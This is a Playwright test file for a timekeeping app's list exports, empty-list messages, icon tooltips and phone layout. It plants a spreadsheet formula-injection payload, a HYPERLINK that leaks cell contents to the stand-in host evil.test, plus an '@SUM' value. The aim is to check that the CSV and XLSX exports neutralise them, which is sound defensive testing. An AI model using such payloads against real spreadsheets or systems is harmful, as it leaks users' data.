import type { Download, Page } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { readFile } from 'node:fs/promises';
import { apiAs } from '../support/api';
import { keepScreenshot } from '../support/screenshots';
import { expect, test } from '../support/test';
import { ADMIN, DEMO_PASSWORD, signIn, SUPERVISOR } from '../support/sign-in';

/**
 * Issue 31 §8: every list downloads what it shows as CSV and XLSX (formula cells neutralised in the
 * CSV, text kept as text in the XLSX), an empty list says what to do next, and an action shown as
 * an icon says what it does.
 */
test.describe('a list downloaded, an empty list, icons named', () => {
  const HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';

  async function download(page: Page, format: 'CSV' | 'Excel (XLSX)'): Promise<Download> {
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download' }).click();
    await page.getByRole('menuitem', { name: format }).click();
    return downloading;
  }

  test('the employees list downloads its shown columns and every row it selects; a formula-like name stays text', async ({ page, request }) => {
    const admin = apiAs(request, ADMIN, DEMO_PASSWORD);
    // A supervisor may name their people anything; a spreadsheet must not run it (issue 28).
    const someone = (await admin.get<{ items: Array<{ id: string }> }>('/api/employees?pageSize=10')).items[0];
    const { departmentId, paygroupId } = await admin.get<{ departmentId: string; paygroupId: string }>(`/api/employees/${someone.id}`);
    const { clockId } = await admin.get<{ clockId: number }>('/api/employees/next-clock-id');
    const saved = await admin.post<{ message: string; id: string }>('/employee/save-without-photo', {
      firstName: 'Formula',
      lastName: HOSTILE,
      departmentId,
      paygroupId,
      hireOnDateValue: '2026-01-05',
      payId: `@SUM(${clockId})`,
      clockId: String(clockId),
      email: `formula.${clockId}@demo.timekeep.local`,
      password: DEMO_PASSWORD,
      confirm_password: DEMO_PASSWORD,
    });
    expect(saved.message).toBe('success');
    try {
      await downloadsOfTheEmployeesList(page, clockId);
    } finally {
      // Out of the rosters and lists the later tests read (the roster lists Active employees only).
      expect((await admin.post<{ message: string }>('/employee/saveStatus', { id: saved.id, status: 'Inactive', reason: 'list export test' })).message).toBe('success');
    }
  });

  async function downloadsOfTheEmployeesList(page: Page, clockId: number): Promise<void> {
    await signIn(page, ADMIN);
    await expect(page).toHaveURL(/\/$/);
    await page.goto('/employee/list');
    const total = Number((await page.getByText(/^Show 1 to \d+ of \d+ entries$/).textContent())?.match(/of (\d+) entries/)?.[1]);
    expect(total).toBeGreaterThan(10);

    // The whole list, not the page of 10 on screen, with the columns shown (Action is not a column of data).
    const csvFile = await download(page, 'CSV');
    expect(csvFile.suggestedFilename()).toMatch(/^Employees \d{4}-\d{2}-\d{2}\.csv$/);
    await expect(page.getByText(`${total} rows downloaded`)).toBeVisible();
    const csv = (await readFile(await csvFile.path())).toString('utf8');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(csv.slice(1)) as string[][];
    const shown = (await page.locator('.ant-table-thead th').allInnerTexts()).map((t) => t.trim()).filter((t) => t && t !== 'Action');
    expect(rows[0]).toEqual(shown);
    expect(rows).toHaveLength(total + 1);
    const last = rows[0].indexOf('Last Name');
    const payId = rows[0].indexOf('Pay ID');
    const formula = rows.find((r) => r[rows[0].indexOf('First Name')] === 'Formula');
    expect(formula?.[last]).toBe(`'${HOSTILE}`);
    expect(formula?.[payId]).toBe(`'@SUM(${clockId})`);
    // Quoted in the file too (OWASP), so no spreadsheet splits or runs it.
    expect(csv).toContain(`"'@SUM(${clockId})"`);

    // Hide a column and search: the file follows what the table shows.
    await page.getByRole('button', { name: 'Columns' }).click();
    await page.locator('.ant-tree').getByText('Schedule', { exact: true }).click();
    await page.getByRole('button', { name: 'Columns' }).click();
    // By its Pay ID, which is hers alone (the list searches names, Pay IDs and clock IDs).
    await page.getByRole('searchbox', { name: 'Search' }).fill(`SUM(${clockId})`);
    await page.getByRole('searchbox', { name: 'Search' }).press('Enter');
    await expect(page.getByText('Show 1 to 1 of 1 entries')).toBeVisible();
    const xlsxFile = await download(page, 'Excel (XLSX)');
    expect(xlsxFile.suggestedFilename()).toMatch(/^Employees \d{4}-\d{2}-\d{2}\.xlsx$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(await xlsxFile.path());
    const sheet = workbook.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).not.toContain('Schedule');
    expect(header).toEqual(shown.filter((t) => t !== 'Schedule'));
    expect(sheet.rowCount).toBe(2);
    const cell = sheet.getCell(2, header.indexOf('Last Name') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(HOSTILE);
    await page.evaluate(() => localStorage.removeItem('tk.table.employees.hiddenColumns'));
  }

  test('an empty list says what to do next, a search that finds nothing says so; icons name what they do', async ({ page }) => {
    await signIn(page, ADMIN);
    await expect(page).toHaveURL(/\/$/);
    await page.goto('/employee/list');
    await expect(page.getByText(/^Show 1 to \d+ of \d+ entries$/)).toBeVisible();

    // Hovering an icon shows its words; the button's name says whose it is.
    const edit = page.getByRole('button', { name: /^Edit / }).first();
    await edit.hover();
    await expect(page.getByRole('tooltip', { name: 'Edit' })).toBeVisible();
    await page.getByRole('button', { name: /^Timesheet of / }).first().hover();
    await expect(page.getByRole('tooltip', { name: 'Timesheet' })).toBeVisible();

    await page.getByRole('searchbox', { name: 'Search' }).fill('nobody-by-this-name');
    await page.getByRole('searchbox', { name: 'Search' }).press('Enter');
    await expect(page.getByText('Nothing matches “nobody-by-this-name”. Try fewer letters, or clear the search to see every entry.')).toBeVisible();

    // A list with nothing to show tells the user where to look next.
    await page.goto('/sync-results?startDate=2030-01-01&endDate=2030-01-31');
    await expect(page.getByText('No syncs, imports or sends in this range. Choose another range in Search.')).toBeVisible();
    await keepScreenshot(page, 'empty-list');
  });

  test('a view-only role is offered no Edit, and a status filter that finds nothing says to choose another status', async ({ page }) => {
    await signIn(page, SUPERVISOR);
    await expect(page).toHaveURL(/\/$/);
    await page.goto('/workplace/list');
    await expect(page.getByText(/^Show 1 to \d+ of \d+ entries$/)).toBeVisible();
    // The supervisor may see workplaces, not change them: no pencil, no New (a new user's walk, issue 31).
    await expect(page.getByRole('button', { name: /^Edit / })).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'New' })).toHaveCount(0);
    await page.getByRole('button', { name: 'Search', exact: true }).first().click();
    await page.locator('.ant-popover:visible').getByRole('radio', { name: 'Inactive', exact: true }).check();
    await page.locator('.ant-popover:visible').getByRole('button', { name: 'Search', exact: true }).click();
    await expect(page.getByText('No inactive workplaces. Choose another status in Search.')).toBeVisible();
  });

  test('on a phone the toolbar wraps inside the screen', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 });
    await signIn(page, ADMIN);
    await expect(page).toHaveURL(/\/$/);
    await page.goto('/leave/list');
    await expect(page.getByRole('button', { name: 'Download' })).toBeVisible();
    const download = await page.getByRole('button', { name: 'Download' }).boundingBox();
    expect((download?.x ?? 0) + (download?.width ?? 0)).toBeLessThanOrEqual(390);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await keepScreenshot(page, 'list-toolbar-phone');
  });
});
